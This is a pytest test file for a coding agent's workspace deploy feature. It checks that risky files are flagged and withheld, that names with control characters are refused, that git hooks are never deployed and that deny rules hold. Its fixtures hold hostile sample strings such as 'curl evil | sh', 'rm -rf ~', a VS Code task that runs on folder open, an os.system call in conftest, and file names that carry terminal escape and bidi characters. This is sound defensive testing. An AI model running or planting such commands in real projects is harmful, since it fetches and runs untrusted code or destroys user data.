"""A deploy that tells the truth: risky files flagged, left out unless chosen; some never deployed; deny rules held."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tui_agent.tools.permissions.policy import Policy, denied_by
from tui_agent.workspace.deploy_risk import left_out, shown
from tui_agent.workspace.workspace import Workspace

pytestmark = pytest.mark.unit

RISKY = {
    "tui-agent.toml": 'deploy_command = "curl evil | sh"\n',
    ".mcp.json": '{"mcpServers": {"x": {"command": "sh"}}}\n',
    ".envrc": "rm -rf ~\n",
    ".vscode/tasks.json": '{"tasks": [{"command": "sh -c evil", "runOptions": {"runOn": "folderOpen"}}]}\n',
    ".github/workflows/ci.yml": "on: push\njobs: {}\n",
    "Makefile": "all:\n\tcurl evil | sh\n",
    "requirements.txt": "evil-package\n",
    "Dockerfile": "FROM evil\n",
    "pyproject.toml": '[tool.tui-agent]\npermissions = {allow = ["run_command"]}\n',
    "tests/conftest.py": "import os; os.system('evil')\n",
}
WEIRD = ["evil\nname.py", "osc\x1b]0;pwned\x07.py", "bidi\u202eyp.txt"]


@pytest.fixture
def ws(tmp_path):
    project = tmp_path / "project"
    (project / "tests").mkdir(parents=True)
    (project / "a.py").write_text("a = 1\n")
    (project / "tests/test_a.py").write_text("def test(): pass\n")
    (project / "old.sh").write_text("echo old\n")
    os.chmod(project / "old.sh", 0o755)
    workspace = Workspace.create(project, tmp_path / "session", owner=(1000, 1000), quota_mb=64)
    for rel, text in RISKY.items():
        workspace.files.write_text(rel, text)
    workspace.files.write_text("a.py", "a = 2\n")
    workspace.files.write_text("run.sh", "#!/bin/sh\necho new\n")
    os.chmod(workspace.path / "run.sh", 0o755)
    workspace.files.write_text("old.sh", "echo changed\n")  # already executable: not new
    for name in WEIRD:
        (workspace.path / name).write_text("x = 1\n")
    (workspace.path / ".git/hooks").mkdir(parents=True)
    (workspace.path / ".git/hooks/pre-commit").write_text("#!/bin/sh\nevil\n")
    (workspace.path / "sub/.git/hooks").mkdir(parents=True)
    (workspace.path / "sub/.git/hooks/post-checkout").write_text("#!/bin/sh\nevil\n")
    (workspace.path / "secrets").mkdir()
    (workspace.path / "secrets/key.txt").write_text("changed by run_command\n")
    yield workspace
    workspace.close()


def test_every_risky_kind_is_flagged_with_a_reason(ws):
    plan = ws.plan_deploy()
    flagged = dict(plan.flagged)
    assert set(flagged) == set(RISKY) | {"run.sh"}
    assert flagged["run.sh"] == "a new executable file" and "old.sh" not in flagged
    assert all(why for why in flagged.values())
    assert "a.py" in plan.writes and "a.py" not in flagged


def test_flagged_files_stay_out_unless_chosen(ws):
    project = ws.project
    plan = ws.plan_deploy()
    done = ws.deploy(skip=left_out(plan, include=(".envrc",)))
    assert (project / "a.py").read_text() == "a = 2\n"
    assert (project / ".envrc").read_text() == "rm -rf ~\n"  # the one the person checked
    for rel in set(RISKY) - {".envrc"}:
        assert not (project / rel).exists(), rel
    assert not (project / "run.sh").exists()
    assert set(done) >= {"a.py", ".envrc", "old.sh"}
    skipped = dict(ws.last_plan.skipped)
    assert skipped["Makefile"] == "flagged, and you left it unchecked"


def test_names_with_control_characters_are_refused(ws):
    plan = ws.plan_deploy()
    skipped = dict(plan.skipped)
    for name in WEIRD:
        assert name not in plan.writes and "control characters" in skipped[name]
    ws.deploy(skip=left_out(plan, include=tuple(RISKY)))
    assert sorted(p.name for p in ws.project.iterdir() if not p.name.isascii() or "\n" in p.name
                  or "\x1b" in p.name) == []


def test_git_hooks_are_never_deployed_even_when_chosen(ws):
    plan = ws.plan_deploy()
    assert not any(".git" in rel.split("/") for rel in plan.writes)
    ws.deploy(skip=left_out(plan, include=tuple(RISKY) + (".git/hooks/pre-commit",)))
    assert not (ws.project / ".git/hooks/pre-commit").exists()
    assert not (ws.project / "sub/.git").exists()


def test_the_confirmation_gets_each_flagged_files_full_content(ws):
    shown_files = {rel: (why, text) for rel, why, text in shown(ws.path, ws.plan_deploy())}
    for rel, text in RISKY.items():
        assert shown_files[rel][1] == text
    assert shown_files["run.sh"][1] == "#!/bin/sh\necho new\n"


def test_deny_path_rules_hold_on_the_deploy(ws):
    policy = Policy(deny=["write_file(secrets/**)"])
    plan = ws.plan_deploy()
    skip = left_out(plan, include=(), denied=denied_by(policy))
    assert skip["secrets/key.txt"] == "a deny rule covers it: write_file(secrets/**)"
    ws.deploy(skip=skip)
    assert not (ws.project / "secrets").exists()
    assert (ws.project / "a.py").read_text() == "a = 2\n"


def test_a_plain_deploy_of_plain_files_is_unchanged(tmp_path):
    project = tmp_path / "p"
    project.mkdir()
    (project / "a.py").write_text("a = 1\n")
    ws = Workspace.create(project, tmp_path / "s", owner=(1000, 1000), quota_mb=64)
    try:
        ws.files.write_text("a.py", "a = 3\n")
        plan = ws.plan_deploy()
        assert plan.flagged == [] and left_out(plan) == {}
        assert ws.deploy(skip=left_out(plan)) == ["a.py"]
        assert Path(project / "a.py").read_text() == "a = 3\n"
    finally:
        ws.close()


def test_permissions_written_by_the_agent_are_listed_never_deployed(tmp_path):
    """tui-agent's own permissions file in the workspace (the project's is never copied in, so the agent or a
    check made it) is counted among the files never deployed, with why; the person's own stays as it was."""
    project = tmp_path / "p"
    (project / ".tui-agent").mkdir(parents=True)
    (project / ".tui-agent/permissions.json").write_text('{"permissions": {"allow": ["read_file"]}}\n')
    ws = Workspace.create(project, tmp_path / "s", owner=(1000, 1000), quota_mb=64)
    try:
        assert not (ws.path / ".tui-agent").exists(), "the person's permissions are not copied into the workspace"
        (ws.path / ".tui-agent").mkdir()
        (ws.path / ".tui-agent/permissions.json").write_text('{"permissions": {"allow": ["run_command(*)"]}}\n')
        for i in range(60):
            (ws.path / ".git/objects").mkdir(parents=True, exist_ok=True)
            (ws.path / f".git/objects/o{i:02}").write_text("x")
        ws.files.write_text("a.py", "a = 1\n")
        plan = ws.plan_deploy()
        skipped = dict(plan.skipped)
        assert "tui-agent's own permissions" in skipped[".tui-agent/permissions.json"], plan.skipped
        assert "never deployed" in skipped[".tui-agent/permissions.json"]
        listed = [rel for rel, _ in plan.skipped if rel.startswith(".git/")]
        assert len(listed) == 51 and "10 more file(s) in .git/" in skipped[".git/…"], listed[-3:]
        assert plan.writes == ["a.py"]
        ws.deploy(skip=left_out(plan, include=(".tui-agent/permissions.json",)))
        assert (project / ".tui-agent/permissions.json").read_text() == '{"permissions": {"allow": ["read_file"]}}\n'
        assert not (project / ".git").exists()
    finally:
        ws.close()
